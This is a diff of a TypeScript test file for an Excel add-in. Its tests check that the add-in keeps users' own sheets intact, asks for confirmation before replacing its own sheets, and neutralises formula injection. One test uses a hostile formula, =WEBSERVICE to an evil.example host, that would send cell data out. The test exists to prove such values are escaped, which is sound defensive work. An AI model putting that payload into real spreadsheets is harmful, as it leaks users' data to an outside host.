@@ -18,6 +18,7 @@ import {
   writeTable,
 } from "../../src/workbook/excel.ts";
 import { producersTable } from "../../src/workbook/insertTable.ts";
+import { OWNED_SETTING, ReplaceNeeded } from "../../src/workbook/owned.ts";
 import { PIN_SETTING, pinLabel, serialisePin } from "../../src/workbook/pin.ts";
 import { SOURCES_HEADER } from "../../src/workbook/sourcesSheet.ts";
 import { Cancelled, reportSheetValues } from "../../src/workbook/upgradeReport.ts";
@@ -88,7 +89,7 @@ describe("insert", () => {
     );
     const inserted = await writeTable(block, core.editions(), { datasetVersion: core.datasetVersion() });
     const rows = block.rows.length + 1;
-    expect(inserted).toEqual({ sheet: "Data", address: `B3:F${rows + 2}` });
+    expect(inserted).toEqual({ sheet: "Data", address: `B3:F${rows + 2}`, sources: "Sources" });
     expect(mock.tables).toEqual([
       expect.objectContaining({
         sheet: "Data",
@@ -118,7 +119,9 @@ describe("insert", () => {
       edition.url,
     ]);
     expect(sources.flat()).toContain(core.datasetVersion());
-    expect(mock.syncs()).toBe(3);
+    // Read; the rows; the table and sources; the new Sources sheet recorded as the add-in's.
+    expect(mock.syncs()).toBe(4);
+    expect(JSON.parse(mock.settings.get(OWNED_SETTING)!)).toEqual({ v: 1, ids: [mock.ids.get("Sources")] });
   });
 
   it("stops writing a big table when cancelled, before the table object is made", async () => {
@@ -201,10 +204,10 @@ describe("upgrade report", () => {
     expect(mock.writes).toEqual([]);
     expect(mock.settings.size).toBe(0);
 
-    // Confirmed: the report sheet, in one more read and one write.
+    // Confirmed: the report sheet, in one more read, one write and one to record the sheet as the add-in's.
     const before = mock.syncs();
     await writeReportSheet(reportSheetValues(report, { from: pinLabel(OLD), to: pinLabel(NEW) }));
-    expect(mock.syncs() - before).toBe(2);
+    expect(mock.syncs() - before).toBe(3);
     expect(mock.sheetNames()).toContain(REPORT_SHEET);
     const written = mock.writes.find((w) => w.sheet === REPORT_SHEET)!;
     const header = written.values!.findIndex((r) => r[0] === "Sheet");
@@ -274,5 +277,117 @@ describe("freeze for sharing", () => {
     expect(result.editions).toEqual([...KNOWN].sort());
     const sources = mock.writes.find((w) => w.sheet === "Frozen – Sources" && w.values)!.values!;
     expect(sources.flat().join(" ")).toMatch(/name no edition and the workbook is not pinned/);
+  });
+});
+
+describe("writes never destroy a user's data", () => {
+  const selection = { mineral: "cobalt", stage: "refining", year: 2030, edition: "iea-cmde-2025" };
+  const block = () =>
+    producersTable(selection, functions.topProducers("cobalt", "refining" as never, 5, 2030, "iea-cmde-2025" as never));
+  const info = { datasetVersion: "v" };
+  /** A workbook whose person keeps their own sheet called "Sources". */
+  const withOwnSources = () =>
+    mockExcel({
+      Data: { address: "A1", formulas: [[""]], values: [[""]] },
+      Sources: {
+        address: "A1:B2",
+        formulas: [
+          ["My notes", ""],
+          ["call Ana", "=1+1"],
+        ],
+        values: [
+          ["My notes", ""],
+          ["call Ana", 2],
+        ],
+      },
+    });
+
+  it('leaves a user\'s own "Sources" sheet untouched and lists the editions on "Sources (2)"', async () => {
+    const mock = use(withOwnSources());
+    const inserted = await writeTable(block(), core.editions(), info);
+    expect(inserted.sources).toBe("Sources (2)");
+    expect(mock.sheetNames()).toEqual(["Data", "Sources", "Sources (2)"]);
+    expect(mock.writes.filter((w) => w.sheet === "Sources")).toEqual([]);
+    expect(mock.cleared).toEqual([]);
+    expect(mock.deleted).toEqual([]);
+    expect(mock.writes.find((w) => w.sheet === "Sources (2)" && w.values)!.values![0]).toEqual([...SOURCES_HEADER]);
+    expect(JSON.parse(mock.settings.get(OWNED_SETTING)!).ids).toEqual([mock.ids.get("Sources (2)")]);
+  });
+
+  it("extends the add-in's own Sources sheet only after confirmation, and never the user's", async () => {
+    const earlier = core.editions().find((e) => e.id === "usgs-mcs-2025")!;
+    const own = [[...SOURCES_HEADER], [earlier.id, earlier.title, "", "", "", "", ""]];
+    // Sheets get ids in order: "Sources (2)", the add-in's from an earlier insert, is sheet-3.
+    const mock = use(
+      mockExcel(
+        {
+          Data: { address: "A1", formulas: [[""]], values: [[""]] },
+          Sources: { address: "A1", formulas: [["My notes"]], values: [["My notes"]] },
+          "Sources (2)": { address: "A1:G2", formulas: own, values: own },
+        },
+        { settings: { [OWNED_SETTING]: JSON.stringify({ v: 1, ids: ["sheet-3"] }) } },
+      ),
+    );
+    expect(mock.ids.get("Sources (2)")).toBe("sheet-3");
+    // Unconfirmed: nothing is written, and the pane is told which sheet it would rewrite.
+    const asked = writeTable(block(), core.editions(), info);
+    await expect(asked).rejects.toBeInstanceOf(ReplaceNeeded);
+    await expect(asked).rejects.toMatchObject({ sheet: "Sources (2)" });
+    expect(mock.writes).toEqual([]);
+    expect(mock.tables).toEqual([]);
+    expect(mock.syncs()).toBe(1);
+    // Confirmed: the add-in's sheet is rewritten in place, keeping its editions; the user's is untouched.
+    const replaced = await writeTable(block(), core.editions(), info, { onExisting: "replace" });
+    expect(replaced.sources).toBe("Sources (2)");
+    expect(mock.cleared).toEqual(["Sources (2)"]);
+    const rows = mock.writes.find((w) => w.sheet === "Sources (2)" && w.values)!.values!;
+    expect(rows.slice(1, 3).map((r) => r[0])).toEqual(["iea-cmde-2025", "usgs-mcs-2025"]);
+    expect(mock.writes.filter((w) => w.sheet === "Sources")).toEqual([]);
+    // Or a new sheet beside it.
+    const beside = await writeTable(block(), core.editions(), info, { onExisting: "new" });
+    expect(beside.sources).toBe("Sources (3)");
+    expect(JSON.parse(mock.settings.get(OWNED_SETTING)!).ids).toEqual(["sheet-3", mock.ids.get("Sources (3)")]);
+    expect(mock.deleted).toEqual([]);
+  });
+
+  it("replaces the add-in's own report sheet only after confirmation; a user's sheet of that name is kept", async () => {
+    const mock = use(mockExcel({ [REPORT_SHEET]: { address: "A1", formulas: [["mine"]], values: [["mine"]] } }));
+    const values = [["CRITMIN upgrade report"]];
+    expect(await writeReportSheet(values)).toBe(`${REPORT_SHEET} (2)`);
+    expect(mock.deleted).toEqual([]);
+    await expect(writeReportSheet(values)).rejects.toMatchObject({ sheet: `${REPORT_SHEET} (2)` });
+    expect(mock.deleted).toEqual([]);
+    expect(await writeReportSheet(values, { onExisting: "replace" })).toBe(`${REPORT_SHEET} (2)`);
+    expect(mock.deleted).toEqual([`${REPORT_SHEET} (2)`]);
+    expect(mock.sheetNames()).toEqual([REPORT_SHEET, `${REPORT_SHEET} (2)`]);
+    // The replacement is recorded in place of the deleted sheet, so it can be replaced again.
+    expect(JSON.parse(mock.settings.get(OWNED_SETTING)!).ids).toEqual([mock.ids.get(`${REPORT_SHEET} (2)`)]);
+    expect(mock.writes.filter((w) => w.sheet === REPORT_SHEET)).toEqual([]);
+  });
+
+  it("a sheet the add-in no longer recognises (unreadable record) is treated as the user's", async () => {
+    const mock = use(
+      mockExcel(
+        { [REPORT_SHEET]: { address: "A1", formulas: [["x"]], values: [["x"]] } },
+        { settings: { [OWNED_SETTING]: "{not json" } },
+      ),
+    );
+    expect(await writeReportSheet([["r"]])).toBe(`${REPORT_SHEET} (2)`);
+    expect(mock.deleted).toEqual([]);
+  });
+
+  it("a citation starting with = lands as text, not as a live formula", async () => {
+    const mock = use(mockExcel({ Data: { address: "A1", formulas: [[""]], values: [[""]] } }));
+    const hostile = '=WEBSERVICE("https://evil.example/?"&A1)';
+    const editions = core
+      .editions()
+      .map((e) => (e.id === "iea-cmde-2025" ? { ...e, citation: hostile, title: "+cmd", publisher: "@SUM(1)" } : e));
+    const table = { ...block(), rows: [[1, "-CHN", "=China", 0.5, 10]] };
+    await writeTable(table, editions, info);
+    const sources = mock.writes.find((w) => w.sheet === "Sources" && w.values)!.values!;
+    expect(sources[1]).toEqual(expect.arrayContaining([`'${hostile}`, "'+cmd", "'@SUM(1)"]));
+    expect(sources.flat().filter((v) => typeof v === "string" && /^[=+\-@]/.test(v))).toEqual([]);
+    const body = mock.writes.find((w) => w.sheet === "Data" && w.values)!.values!;
+    expect(body[1]).toEqual([1, "'-CHN", "'=China", 0.5, 10]);
   });
 });
